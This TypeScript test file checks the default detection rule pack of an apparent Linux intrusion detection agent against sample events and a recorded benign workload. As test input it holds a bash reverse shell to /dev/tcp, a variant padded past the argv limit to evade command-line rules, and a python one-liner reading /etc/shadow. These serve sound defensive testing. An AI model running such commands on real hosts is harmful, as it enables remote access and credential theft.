import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { before, describe, it } from 'node:test';
import { parse } from 'yaml';
import { eventKinds, type EventAction } from '../../src/common/events/index.js';
import { formatProblem, loadRules, runSamples, type LoadResult, type Match } from '../../src/rules/index.js';
import { DEFAULT_PACK_DIR, readDefaultPack, type RuleFileText } from '../../src/runtime/rule-pack.js';

let files: RuleFileText[];
let pack: LoadResult;

before(async () => {
  files = await readDefaultPack();
  pack = loadRules(files);
});

/** Every rule entry of the pack's YAML, with its file. */
function entries(): { file: string; rule: Record<string, unknown> }[] {
  return files.flatMap((f) => (((parse(f.text) as { rules?: Record<string, unknown>[] } | null)?.rules ?? []).map((rule) => ({ file: f.name, rule }))));
}

describe('default rule pack', () => {
  it('loads every file with no error and no warning', () => {
    assert.ok(files.length >= 10, `${files.length} files`);
    assert.ok(files.every((f) => /^rules\/[a-z-]+\.yaml$/.test(f.name)), files.map((f) => f.name).join(', '));
    assert.deepEqual(pack.problems.map(formatProblem), []);
    assert.equal(pack.ruleSet.rules.length, entries().length);
  });

  it('gives every rule a description, ATT&CK technique and tactic tags, an output and both kinds of samples', () => {
    const missing: string[] = [];
    for (const { file, rule } of entries()) {
      const id = String(rule['id']);
      const tags = (rule['tags'] as string[] | undefined) ?? [];
      const samples = rule['samples'] as { match?: unknown[]; no_match?: unknown[] } | undefined;
      if (typeof rule['description'] !== 'string' || rule['description'].length < 40) missing.push(`${file} ${id}: description`);
      if (!tags.some((t) => /^attack\.t\d{4}(\.\d{3})?$/.test(t))) missing.push(`${file} ${id}: ATT&CK technique tag`);
      if (!tags.some((t) => /^attack\.[a-z_-]+$/.test(t))) missing.push(`${file} ${id}: ATT&CK tactic tag`);
      if (typeof rule['output'] !== 'string') missing.push(`${file} ${id}: output`);
      if (!samples?.match?.length) missing.push(`${file} ${id}: match sample`);
      if (!samples?.no_match?.length) missing.push(`${file} ${id}: no_match sample`);
    }
    assert.deepEqual(missing, []);
  });

  it('fires every rule on its match samples and on none of its no_match samples', () => {
    const report = runSamples(pack.ruleSet, pack.samples);
    assert.deepEqual(report.problems.map(formatProblem), []);
    assert.equal(report.ok, true);
    assert.equal(report.failed, 0);
    assert.equal(report.passed, report.samples);
    assert.ok(report.rules.every((r) => r.status === 'passed'), report.rules.filter((r) => r.status !== 'passed').map((r) => `${r.rule}: ${r.status}`).join(', '));
  });

  it('is catalogued in rules/README.md: every rule with its file, severity and techniques, and every file with its count', () => {
    const readme = readFileSync(`${DEFAULT_PACK_DIR}README.md`, 'utf8');
    const missing: string[] = [];
    for (const { file, rule } of entries()) {
      const section = readme.split(`### ${file.replace('rules/', '')}\n`)[1]?.split('\n### ')[0] ?? '';
      const techniques = (rule['tags'] as string[]).filter((t) => t.startsWith('attack.t')).map((t) => t.replace('attack.', '').toUpperCase());
      const row = section.split('\n').find((line) => line.startsWith(`| \`${String(rule['id'])}\` |`));
      if (!row?.startsWith(`| \`${String(rule['id'])}\` | ${String(rule['severity'])} | ${techniques.join(', ')} |`)) missing.push(`${file} ${String(rule['id'])}`);
    }
    assert.deepEqual(missing, []);
    for (const f of files.filter((x) => x.name !== 'rules/macros.yaml')) {
      const count = ((parse(f.text) as { rules: unknown[] }).rules ?? []).length;
      assert.match(readme, new RegExp(`^\\| \\[\`${f.name.replace('rules/', '').replace('.', '\\.')}\`\\]\\(#\\w+\\) \\| ${count} \\|`, 'm'), f.name);
    }
  });

  it('says so in the description of every rule that only planned event kinds can trigger', () => {
    const plannedOnly = pack.ruleSet.rules.filter((r) => r.actions !== null && r.actions.length > 0 && r.actions.every((a) => 'planned' in eventKinds[a as EventAction]));
    // (None today: the honeypot mode made the last one real; YARA's scan_match has no rule yet.)
    for (const r of plannedOnly) assert.match(r.description, /PLANNED EVENT KIND/, r.id);
    // And no rule that real events can trigger says it.
    for (const r of pack.ruleSet.rules.filter((x) => !plannedOnly.includes(x))) assert.doesNotMatch(r.description, /PLANNED EVENT KIND/, r.id);
  });
});

// ----- command lines cut at the agent's argv limit -----

describe('default rule pack: code cut at the argv limit', () => {
  /** The exec event of `argv` as the agent makes it with the default limit (4096 bytes of argv). */
  const cutExec = (argv: string[], extra: Record<string, unknown> = {}) => {
    const whole = Buffer.from(argv.map((a) => `${a}\0`).join(''));
    const kept = whole.subarray(0, 4096).toString('utf8').split('\0');
    if (kept.at(-1) === '') kept.pop();
    return {
      '@timestamp': new Date(BASE).toISOString(),
      event: { id: `cut-${++n}`, action: 'exec', outcome: 'success' },
      host: { name: 'dev-01' },
      process: { pid: 4242, name: 'bash', executable: '/usr/bin/bash', args: kept, command_line: kept.join(' '), user: { id: '0', name: 'root' }, parent: { pid: 4241, name: 'timeout' } },
      hades: { process: { args_truncated: whole.length > 4096, args_bytes: whole.length }, ...extra },
    };
  };

  it('reports a reverse shell padded past the limit, which no command-line rule can read', () => {
    // timeout 2 bash -c "$(printf ' %.0s' {1..5000})bash -i >& /dev/tcp/127.0.0.1/4445 0>&1"
    const padded = cutExec(['bash', '-c', `${' '.repeat(5000)}bash -i >& /dev/tcp/127.0.0.1/4445 0>&1`]);
    assert.equal(padded.hades.process.args_truncated, true);
    const matches = [...pack.ruleSet.match(padded)];
    assert.deepEqual(matches.map((m) => `${m.rule.id} ${m.severity}`), ['inline_code_cut_from_view medium']);
    assert.match(matches[0]!.output, /cut at 5048 bytes/);
    // Seen whole, the same command is the critical reverse shell.
    const whole = [...pack.ruleSet.match(cutExec(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4445 0>&1']))].map((m) => m.rule.id);
    assert.deepEqual(whole, ['reverse_shell_dev_tcp']);
  });

  it('leaves alone arguments cut after the code, scripts with long arguments, and package managers', () => {
    const files = Array.from({ length: 400 }, (_, i) => `/var/log/app/archive-${i}.log`);
    const quiet = [
      cutExec(['sh', '-c', 'gzip -9 "$@"', 'sh', ...files]),
      cutExec(['/bin/bash', './libtool', '--mode=link', 'gcc', ...files]),
      cutExec(['/bin/sh', '-c', `for f in ${files.join(' ')}; do rm -f "$f"; done`], { ancestors: [{ pid: 601, name: 'x.postinst', executable: '/usr/bin/dash', args: ['/bin/sh', '/var/lib/dpkg/info/x.postinst', 'configure'] }, { pid: 600, name: 'dpkg', executable: '/usr/bin/dpkg' }] }),
    ];
    for (const e of quiet) {
      assert.equal(e.hades.process.args_truncated, true);
      assert.deepEqual([...pack.ruleSet.match(e)].map((m) => m.rule.id), [], e.process.command_line.slice(0, 60));
    }
  });
});

// ----- a benign admin and developer workload: no high or critical alert -----

const BASE = Date.parse('2026-03-02T10:00:00.000Z');
let n = 0;

/** An event as the agent emits it (the fields rules read), `seconds` after BASE. */
function ev(action: EventAction, seconds: number, fields: Record<string, unknown>): Record<string, unknown> {
  n++;
  return { '@timestamp': new Date(BASE + seconds * 1000).toISOString(), event: { id: `benign-${n}`, action, outcome: 'success' }, host: { name: 'dev-01' }, ...fields };
}

const proc = (name: string, args: string[], extra: Record<string, unknown> = {}) => ({ name, args, command_line: args.join(' '), user: { id: '0', name: 'root' }, ...extra });
const under = (...names: string[]) => ({ ancestors: names.map((name, i) => ({ pid: 100 + i, name })) });
const creds = (uid: number, euid: number, suid: number) => ({ uid, gid: uid, euid, egid: uid, suid });

/** Shapes recorded with `hades events` while running these commands on Debian 12. */
const workload = [
  // apt-get update && apt-get install -y sudo rsync
  ev('exec', 0, { process: proc('apt-get', ['apt-get', 'update']) }),
  ev('privilege_change', 1, { process: proc('http', ['/usr/lib/apt/methods/http']), hades: { privilege: { call: 'setresuid', before: creds(0, 0, 0), after: creds(42, 42, 42) } } }),
  ev('dns_query', 1, { process: proc('http', ['/usr/lib/apt/methods/http']), destination: { ip: '10.255.255.53', port: 53 }, network: { transport: 'udp' }, dns: { type: 'query', question: { name: 'deb.debian.org', type: 'A' } } }),
  ev('connect', 1, { process: proc('http', ['/usr/lib/apt/methods/http']), destination: { ip: '151.101.2.132', port: 80 }, network: { transport: 'tcp' } }),
  ev('file_chmod', 2, { process: proc('chmod', ['chmod', '700', '/tmp/apt-key-gpghome.vXeDzjWjvY']), file: { path: '/tmp/apt-key-gpghome.vXeDzjWjvY', mode: '0700' }, hades: { file: { setuid: false }, ...under('apt-key', 'gpgv', 'apt-get') } }),
  ev('file_create', 3, { process: proc('dpkg', ['dpkg', '--unpack']), file: { path: '/usr/bin/sudo.dpkg-new', mode: '0000' }, hades: { file: { created: true }, ...under('apt-get', 'bash') } }),
  ev('file_chmod', 3, { process: proc('dpkg', ['dpkg', '--unpack']), file: { path: '/usr/bin/sudo.dpkg-new', mode: '04755' }, hades: { file: { setuid: true, made_executable: true }, ...under('apt-get', 'bash') } }),
  ev('file_rename', 3, { process: proc('dpkg', ['dpkg', '--unpack']), file: { path: '/usr/bin/sudo' }, hades: { file: { old_path: '/usr/bin/sudo.dpkg-new' }, ...under('apt-get', 'bash') } }),
  ev('file_create', 3, { process: proc('dpkg', ['dpkg', '--unpack']), file: { path: '/usr/lib/systemd/system/rsync.service.dpkg-new', name: 'rsync.service.dpkg-new' }, hades: { file: { created: true }, ...under('apt-get', 'bash') } }),
  ev('file_rename', 3, { process: proc('dpkg', ['dpkg', '--unpack']), file: { path: '/etc/sudoers', name: 'sudoers' }, hades: { file: { old_path: '/etc/sudoers.dpkg-new' }, ...under('apt-get', 'bash') } }),
  ev('file_chmod', 4, { process: proc('chmod', ['chmod', '0440', '/etc/sudoers']), file: { path: '/etc/sudoers', mode: '0440' }, hades: { file: { setuid: false }, ...under('sudo.postinst', 'dpkg', 'apt-get') } }),
  ev('file_rename', 4, { process: proc('useradd', ['useradd', '--system', '_rsync']), file: { path: '/etc/passwd' }, hades: { file: { old_path: '/etc/passwd+' }, ...under('adduser', 'rsync.postinst', 'dpkg') } }),
  ev('exec', 4, { process: proc('sh', ['/bin/sh', '/tmp/rsync.config.Xy12ab', 'configure']), hades: under('dpkg-preconfigu', 'apt-get') }),
  ev('file_create', 4, { process: proc('ldconfig', ['/sbin/ldconfig']), file: { path: '/etc/ld.so.cache~' }, hades: { file: { created: true }, ...under('libc-bin.postin', 'dpkg') } }),
  // npm ci in a project under a temporary folder (esbuild writes and runs its binary)
  ev('exec', 10, { process: proc('node', ['node', '/usr/bin/npm', 'ci'], { working_directory: '/tmp/hades-wl-1/proj' }) }),
  ev('dns_query', 10, { process: proc('node', ['node', '/usr/bin/npm', 'ci']), destination: { ip: '10.255.255.53', port: 53 }, network: { transport: 'udp' }, dns: { type: 'query', question: { name: 'registry.npmjs.org', type: 'A' } } }),
  ev('file_create', 11, { process: proc('node', ['node', '/usr/bin/npm', 'ci']), file: { path: '/tmp/hades-wl-1/proj/node_modules/esbuild/bin/esbuild' }, hades: { file: { created: true } } }),
  ev('file_chmod', 11, { process: proc('npm', ['node', '/usr/bin/npm', 'ci']), file: { path: '/tmp/hades-wl-1/proj/node_modules/esbuild/bin/esbuild', mode: '0755' }, hades: { file: { setuid: false } } }),
  ev('exec', 12, { process: proc('sh', ['sh', '-c', 'node install.js'], { parent: { pid: 200, name: 'node' } }) }),
  ev('exec', 12, { process: proc('esbuild', ['/tmp/hades-wl-1/proj/node_modules/esbuild/bin/esbuild', '--version'], { executable: '/tmp/hades-wl-1/proj/node_modules/esbuild/bin/esbuild', parent: { pid: 201, name: 'node' } }) }),
  // git clone
  ev('exec', 20, { process: proc('git', ['git', 'clone', '--depth', '1', 'https://github.com/example/app.git']) }),
  ev('exec', 20, { process: proc('git-remote-http', ['git-remote-https', 'origin', 'https://github.com/example/app.git'], { parent: { pid: 300, name: 'git' } }) }),
  ev('connect', 21, { process: proc('git-remote-http', ['git-remote-https', 'origin']), destination: { ip: '140.82.121.4', port: 443 }, network: { transport: 'tcp' } }),
  // gcc and make in a temporary folder, then the program runs
  ev('exec', 30, { process: proc('make', ['make'], { working_directory: '/tmp/hades-wl-1/c' }) }),
  ev('exec', 30, { process: proc('sh', ['/bin/sh', '-c', 'gcc -O2 -o hello hello.c'], { parent: { pid: 400, name: 'make' } }) }),
  ev('exec', 30, { process: proc('as', ['as', '--64', '-o', '/tmp/ccX1.o', '/tmp/ccX1.s'], { executable: '/usr/bin/x86_64-linux-gnu-as' }) }),
  ev('file_create', 31, { process: proc('ld', ['/usr/bin/ld', '-o', 'hello']), file: { path: '/tmp/hades-wl-1/c/hello' }, hades: { file: { created: true } } }),
  ev('file_chmod', 31, { process: proc('ld', ['/usr/bin/ld', '-o', 'hello']), file: { path: '/tmp/hades-wl-1/c/hello', mode: '0755' }, hades: { file: { setuid: false } } }),
  ev('exec', 32, { process: proc('hello', ['./hello'], { executable: '/tmp/hades-wl-1/c/hello', parent: { pid: 500, name: 'bash' } }) }),
  // systemctl, ssh, sudo
  ev('exec', 40, { process: proc('systemctl', ['systemctl', 'daemon-reload']) }),
  ev('exec', 40, { process: proc('systemctl', ['systemctl', 'restart', 'nginx']) }),
  ev('exec', 41, { process: proc('nginx', ['/usr/sbin/nginx', '-g', 'daemon on; master_process on;'], { parent: { pid: 1, name: 'systemd' } }) }),
  ev('exec', 42, { process: proc('ssh-keygen', ['ssh-keygen', '-t', 'ed25519', '-f', '/root/.ssh/id_ed25519', '-N', '']) }),
  ev('file_create', 42, { process: proc('ssh-keygen', ['ssh-keygen', '-t', 'ed25519']), file: { path: '/root/.ssh/id_ed25519', name: 'id_ed25519' }, hades: { file: { created: true } } }),
  ev('file_open', 42, { process: proc('ssh-keygen', ['ssh-keygen', '-t', 'ed25519'], { executable: '/usr/bin/ssh-keygen' }), file: { path: '/root/.ssh/id_ed25519' }, hades: { file: { sensitive: '/root/.ssh/id_ed25519', access: 'write' } } }),
  ev('exec', 43, { process: proc('ssh', ['ssh', '-o', 'BatchMode=yes', 'deploy@10.0.0.5', 'uptime']) }),
  ev('file_open', 43, { process: proc('ssh', ['ssh', 'deploy@10.0.0.5'], { executable: '/usr/bin/ssh' }), file: { path: '/root/.ssh/id_ed25519' }, hades: { file: { sensitive: '/root/.ssh/id_ed25519', access: 'read' } } }),
  // the password hashes, read by sudo's PAM stack and its helper, by sshd and by cron
  ev('file_open', 44, { process: proc('unix_chkpwd', ['/usr/sbin/unix_chkpwd', 'alice', 'nullok'], { executable: '/usr/sbin/unix_chkpwd' }), file: { path: '/etc/shadow' }, hades: { file: { sensitive: '/etc/shadow', access: 'read' } } }),
  ev('file_open', 44, { process: proc('sudo', ['sudo', 'systemctl', 'restart', 'nginx'], { executable: '/usr/bin/sudo' }), file: { path: '/etc/shadow' }, hades: { file: { sensitive: '/etc/shadow', access: 'read' } } }),
  ev('file_open', 45, { process: proc('sshd-session', ['sshd-session: alice [priv]'], { executable: '/usr/lib/openssh/sshd-session' }), file: { path: '/etc/shadow' }, hades: { file: { sensitive: '/etc/shadow', access: 'read' } } }),
  ev('file_open', 45, { process: proc('sshd', ['sshd: /usr/sbin/sshd -D [listener]'], { executable: '/usr/sbin/sshd' }), file: { path: '/etc/ssh/ssh_host_ed25519_key' }, hades: { file: { sensitive: '/etc/ssh/ssh_host_ed25519_key', access: 'read' } } }),
  ev('file_open', 46, { process: proc('cron', ['/usr/sbin/CRON', '-f'], { executable: '/usr/sbin/cron' }), file: { path: '/etc/shadow' }, hades: { file: { sensitive: '/etc/shadow', access: 'read' } } }),
  // the Puppet agent managing an account; auditd stopped by the service manager
  ev('file_open', 47, { process: proc('puppet', ['/opt/puppetlabs/puppet/bin/ruby', '/opt/puppetlabs/puppet/bin/puppet', 'agent', '--no-daemonize'], { executable: '/opt/puppetlabs/puppet/bin/ruby' }), file: { path: '/etc/shadow' }, hades: { file: { sensitive: '/etc/shadow', access: 'read' } } }),
  ev('tamper', 48, { process: { pid: 1, name: 'systemd', executable: '/usr/lib/systemd/systemd', args: ['/sbin/init'] }, hades: { tamper: { target: 'security_daemon', operation: 'kill', signal: 15, target_pid: 812, target_process: { pid: 812, name: 'auditd', executable: '/usr/sbin/auditd' } } } }),
  ev('exit', 48, { process: { pid: 812, entity_id: 'dev-01-812-1', name: 'auditd', executable: '/usr/sbin/auditd', exit_code: 0 } }),
  ev('connect', 43, { process: proc('ssh', ['ssh', 'deploy@10.0.0.5']), destination: { ip: '10.0.0.5', port: 22 }, network: { transport: 'tcp' } }),
  ev('exec', 44, { process: proc('sudo', ['sudo', 'systemctl', 'restart', 'nginx'], { user: { id: '0', name: 'root' }, real_user: { id: '1000', name: 'alice' } }) }),
  ev('privilege_change', 44, { process: proc('sudo', ['sudo', 'systemctl', 'restart', 'nginx']), hades: { privilege: { call: 'setresuid', before: creds(1000, 0, 0), after: creds(0, 0, 0) } } }),
  ev('privilege_change', 44, { process: proc('sudo', ['sudo', 'ls', '/root']), hades: { privilege: { call: 'setresuid', before: creds(1000, 1000, 0), after: creds(1000, 0, 0) } } }),
  ev('exec', 45, { process: proc('sudo', ['sudo', '-u', 'nobody', 'id']) }),
  ev('exec', 45, { process: proc('id', ['id'], { parent: { pid: 600, name: 'sudo' }, user: { id: '65534', name: 'nobody' } }) }),
  ev('module_load', 46, { process: proc('modprobe', ['/sbin/modprobe', '-q', '--', 'br_netfilter']), hades: { module: { name: 'br_netfilter', syscall: 'finit_module' } } }),
  // the firewall loaded at boot and by hand from its usual files; sudo's time stamps kept by sudo
  // and its folder made by systemd-tmpfiles; a resolver file locked; an administrator's first
  // commands at a login (a few of them reconnaissance), sudo refreshed once, memory looked at
  ev('exec', 52, { process: proc('iptables-restor', ['iptables-restore'], { executable: '/usr/sbin/xtables-nft-multi' }), hades: { process: { stdio: { stdin: { type: 'file', inode: 4100 } } }, ancestors: [{ pid: 700, name: '15-ip4tables', executable: '/usr/bin/dash', args: ['/bin/sh', '/usr/share/netfilter-persistent/plugins.d/15-ip4tables', 'start'] }] } }),
  ev('exec', 52, { process: proc('nft', ['/usr/sbin/nft', '-f', '/etc/nftables.conf'], { executable: '/usr/sbin/nft', parent: { pid: 1, name: 'systemd' } }), hades: { process: { stdio: { stdin: { type: 'char_device' } } } } }),
  ev('exec', 53, { process: proc('iptables-restor', ['iptables-restore', '/etc/iptables/rules.v4'], { executable: '/usr/sbin/xtables-nft-multi' }), hades: { process: { stdio: { stdin: { type: 'tty' } } } } }),
  ev('file_create', 54, { process: proc('systemd-tmpfile', ['systemd-tmpfiles', '--create', '--remove', '--boot'], { executable: '/usr/bin/systemd-tmpfiles' }), file: { path: '/run/sudo/ts' }, hades: { file: { created: true } } }),
  ev('file_create', 55, { process: proc('sudo', ['sudo', '-v'], { executable: '/usr/bin/sudo' }), file: { path: '/run/sudo/ts/alice' }, hades: { file: { created: true } } }),
  ev('exec', 55, { process: proc('sudo', ['sudo', '-v'], { executable: '/usr/bin/sudo', parent: { pid: 800, entity_id: 'dev-01-800-1', name: 'bash' }, session_leader: { pid: 790 } }) }),
  ev('exec', 56, { process: proc('chattr', ['chattr', '+i', '/etc/resolv.conf'], { executable: '/usr/bin/chattr' }) }),
  ev('exec', 57, { process: proc('w', ['w'], { parent: { pid: 800, entity_id: 'dev-01-800-1', name: 'bash' }, session_leader: { pid: 790 } }) }),
  ev('exec', 60, { process: proc('uptime', ['uptime'], { parent: { pid: 800, entity_id: 'dev-01-800-1', name: 'bash' }, session_leader: { pid: 790 } }) }),
  ev('exec', 64, { process: proc('ps', ['ps', 'aux'], { parent: { pid: 800, entity_id: 'dev-01-800-1', name: 'bash' }, session_leader: { pid: 790 } }) }),
  ev('exec', 70, { process: proc('ss', ['ss', '-tlnp'], { parent: { pid: 800, entity_id: 'dev-01-800-1', name: 'bash' }, session_leader: { pid: 790 } }) }),
  ev('exec', 75, { process: proc('cat', ['cat', '/proc/meminfo'], { parent: { pid: 800, entity_id: 'dev-01-800-1', name: 'bash' }, session_leader: { pid: 790 } }) }),
  ev('exec', 80, { process: proc('find', ['find', '/tmp', '-name', '*.tmp', '-mtime', '+7', '-delete'], { parent: { pid: 800, entity_id: 'dev-01-800-1', name: 'bash' }, session_leader: { pid: 790 } }) }),
  // an administrator's sudo: a file edited with a command run from the editor (:!ls), a root
  // login and an editor's shell in it, a unit's status in the pager; a health check over ssh,
  // a known host removed (recorded with hades events)
  ev('exec', 81, { process: proc('bash', ['/bin/bash', '-c', 'ls /tmp'], { executable: '/usr/bin/bash', parent: { pid: 901, name: 'vim' } }), hades: { ancestors: [{ pid: 901, name: 'vim', args: ['vim', '/etc/hosts'] }, { pid: 900, name: 'sudo', args: ['sudo', 'vim', '/etc/hosts'] }, { pid: 899, name: 'sudo' }] } }),
  ev('exec', 82, { process: proc('bash', ['-bash'], { executable: '/usr/bin/bash', parent: { pid: 910, name: 'sudo' } }), hades: { ancestors: [{ pid: 910, name: 'sudo', args: ['sudo', '-i'] }, { pid: 909, name: 'sudo', args: ['sudo', '-i'] }, { pid: 800, name: 'bash', args: ['-bash'] }] } }),
  ev('exec', 83, { process: proc('sh', ['/bin/sh'], { executable: '/usr/bin/dash', parent: { pid: 912, name: 'vim' } }), hades: { ancestors: [{ pid: 912, name: 'vim', args: ['vim'] }, { pid: 911, name: 'bash', args: ['-bash'] }, { pid: 910, name: 'sudo', args: ['sudo', '-i'] }, { pid: 909, name: 'sudo', args: ['sudo', '-i'] }] } }),
  ev('exec', 84, { process: proc('pager', ['pager'], { executable: '/usr/bin/less', parent: { pid: 921, name: 'systemctl' } }), hades: { ancestors: [{ pid: 921, name: 'systemctl', args: ['systemctl', 'status', 'nginx'] }, { pid: 920, name: 'sudo' }, { pid: 919, name: 'sudo' }] } }),
  ev('exec', 85, { process: proc('ssh', ['ssh', 'web1', 'curl -fsS http://localhost:8080/health | jq .status'], { executable: '/usr/bin/ssh' }) }),
  ev('exec', 86, { process: proc('ssh-keygen', ['ssh-keygen', '-f', '/root/.ssh/known_hosts', '-R', '10.0.0.5'], { executable: '/usr/bin/ssh-keygen' }) }),
  // the inventory's first snapshot of a normal host, then the setuid program sudo's install added
  ev('inventory_change', 50, { hades: { inventory: { table: 'users', query: 'users', change: 'snapshot', row: { username: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash' } } } }),
  ev('inventory_change', 50, { hades: { inventory: { table: 'suid_binaries', query: 'suid_binaries', change: 'snapshot', row: { path: '/usr/bin/passwd', uid: 0, mode: '4755' } } } }),
  ev('inventory_change', 51, { hades: { inventory: { table: 'suid_binaries', query: 'suid_binaries', change: 'added', row: { path: '/usr/bin/sudo', uid: 0, mode: '4755' } } } }),
];

describe('default rule pack on a benign workload', () => {
  it('raises no high or critical alert on package installs, npm ci, git clone, gcc and make, systemctl, ssh and sudo, the firewall loaded, an administrator\'s first commands', () => {
    const { ruleSet } = loadRules(files, { samples: false });
    const matches: Match[] = workload.flatMap((e) => [...ruleSet.match(e)]);
    const loud = matches.filter((m) => m.severity === 'high' || m.severity === 'critical');
    assert.deepEqual(
      loud.map((m) => `${m.severity} ${m.rule.id}: ${m.output}`),
      [],
    );
    // The events did reach the rules: running freshly built programs from /tmp is reported, quietly.
    assert.ok(matches.some((m) => m.rule.id === 'exec_from_tmp' && m.severity === 'medium'));
  });
});

// ----- the exceptions a site extends, as rules/README.md shows them -----

/** The first YAML block of a section of rules/README.md. */
function readmeYaml(heading: string): string {
  const readme = readFileSync(`${DEFAULT_PACK_DIR}README.md`, 'utf8');
  const section = readme.split(`\n${heading}\n`)[1]?.split('\n## ')[0] ?? '';
  const block = /```yaml\n([\s\S]*?)```/.exec(section)?.[1];
  assert.ok(block, `a yaml block under ${heading}`);
  return block;
}

/** The ids of the rules an event fires, with the pack alone and with a site file added. */
const withSite = new Map<string, LoadResult>();
function firedWith(site: string | undefined, event: Record<string, unknown>): string[] {
  let loaded = site === undefined ? pack : withSite.get(site);
  if (!loaded) {
    loaded = loadRules([...files, { name: 'local/site.yaml', text: site! }]);
    assert.deepEqual(loaded.problems.map(formatProblem), []);
    withSite.set(site!, loaded);
  }
  return [...loaded.ruleSet.match(event)].map((m) => m.rule.id);
}

const SHIM = '/usr/bin/containerd-shim-runc-v2';
const ALLOWED_ID = '4c1d6f0e9a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5';
const OTHER_ID = '9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d';
const socketUse = (executable: string, containerId: string | undefined, ancestors: Record<string, unknown>[]) =>
  ev('connect', 60, {
    process: proc(executable.split('/').pop()!, [executable], { executable }),
    ...(containerId === undefined ? {} : { container: { id: containerId, runtime: 'docker' } }),
    destination: { address: '/var/run/docker.sock' },
    network: { transport: 'unix' },
    hades: { ancestors },
  });
const shim = (id: string) => ({ pid: 2200, name: 'containerd-shim', executable: SHIM, args: [SHIM, '-namespace', 'moby', '-id', id, '-address', '/run/containerd/containerd.sock'] });

describe('default rule pack: the exceptions a site extends (rules/README.md)', () => {
  it('allows a container to use the runtime socket by its program and full id, and nothing else', () => {
    const site = readmeYaml('### Containers allowed to use the runtime socket');
    const rule = 'container_runtime_socket_from_container';
    const traefik = socketUse('/usr/local/bin/traefik', ALLOWED_ID, [shim(ALLOWED_ID)]);
    assert.ok(firedWith(undefined, traefik).includes(rule), 'reported without the site file');
    assert.ok(!firedWith(site, traefik).includes(rule), 'the allowed container');
    // The same program in another container, and another program (a shell's curl) in the
    // allowed one.
    assert.ok(firedWith(site, socketUse('/usr/local/bin/traefik', OTHER_ID, [shim(OTHER_ID)])).includes(rule));
    assert.ok(firedWith(site, socketUse('/usr/bin/curl', ALLOWED_ID, [{ pid: 2300, name: 'sh', executable: '/bin/sh' }, shim(ALLOWED_ID)])).includes(rule));
    // Another container whose process has an ancestor given the allowed id as an argument (what
    // the exception went by before connect events carried their container): not allowed.
    const forged = { pid: 2400, name: 'sh', executable: '/bin/sh', args: ['/bin/sh', '-c', 'exec traefik', '-id', ALLOWED_ID] };
    assert.ok(firedWith(site, socketUse('/usr/local/bin/traefik', OTHER_ID, [forged, shim(OTHER_ID)])).includes(rule));
    // A connect whose cgroup the agent could not tell: no allowance, known by its ancestry.
    assert.ok(firedWith(site, socketUse('/usr/local/bin/traefik', undefined, [shim(ALLOWED_ID)])).includes(rule));
    // Containers are this rule's: the host programs' rule leaves them, the allowed one included.
    assert.ok(!firedWith(site, traefik).includes('container_runtime_socket_unusual_client'));
  });

  it('tells the host\'s container tools by installed path, not by name', () => {
    const rule = 'container_runtime_socket_unusual_client';
    assert.ok(!firedWith(undefined, socketUse('/usr/bin/docker', undefined, [])).includes(rule));
    // curl copied as docker, and run through a link named docker.
    const copied = socketUse('/tmp/docker', undefined, []);
    assert.equal((copied['process'] as { name: string }).name, 'docker');
    assert.ok(firedWith(undefined, copied).includes(rule));
    const linked = socketUse('/usr/bin/curl', undefined, []);
    (linked['process'] as { name: string }).name = 'docker';
    assert.ok(firedWith(undefined, linked).includes(rule));
  });

  it('excepts a configuration agent from the shadow rule by its interpreter and its first argument, or by its path', () => {
    const site = readmeYaml('### Configuration management');
    const rule = 'shadow_read_by_unexpected_program';
    const shadowRead = (executable: string, args: string[]) =>
      ev('file_open', 70, { process: proc(args[0]!.split('/').pop()!, args, { executable }), file: { path: '/etc/shadow' }, hades: { file: { sensitive: '/etc/shadow', access: 'read' } } });
    const agent = shadowRead('/opt/acme/bin/python3.12', ['/opt/acme/bin/python3.12', '/opt/acme/bin/acme-agent', 'run']);
    const sync = shadowRead('/opt/acme/bin/acme-sync', ['/opt/acme/bin/acme-sync']);
    assert.ok(firedWith(undefined, agent).includes(rule), 'reported without the site file');
    assert.ok(firedWith(undefined, sync).includes(rule), 'reported without the site file');
    assert.ok(!firedWith(site, agent).includes(rule));
    assert.ok(!firedWith(site, sync).includes(rule));
    // The agent's script named after code of another's, and a program named like the agent.
    assert.ok(firedWith(site, shadowRead('/opt/acme/bin/python3.12', ['/opt/acme/bin/python3.12', '-c', 'print(open("/etc/shadow").read())', '/opt/acme/bin/acme-agent'])).includes(rule));
    assert.ok(firedWith(site, shadowRead('/tmp/acme-sync', ['/tmp/acme-sync'])).includes(rule));
    // The pack's own exceptions are kept.
    assert.ok(!firedWith(site, shadowRead('/opt/puppetlabs/puppet/bin/ruby', ['/opt/puppetlabs/puppet/bin/ruby', '/opt/puppetlabs/puppet/bin/puppet', 'agent'])).includes(rule));
    // The site file's own samples run with the rule's, and pass.
    const loaded = withSite.get(site)!;
    const report = runSamples(loaded.ruleSet, loaded.samples);
    assert.equal(report.ok, true, report.problems.map(formatProblem).join('\n'));
    const own = loaded.samples.filter((s) => s.file === 'local/site.yaml');
    assert.deepEqual(own.map((s) => [s.rule, s.samples.map((x) => x.expect).join(' ')]), [[rule, 'match no_match no_match']]);
  });
});
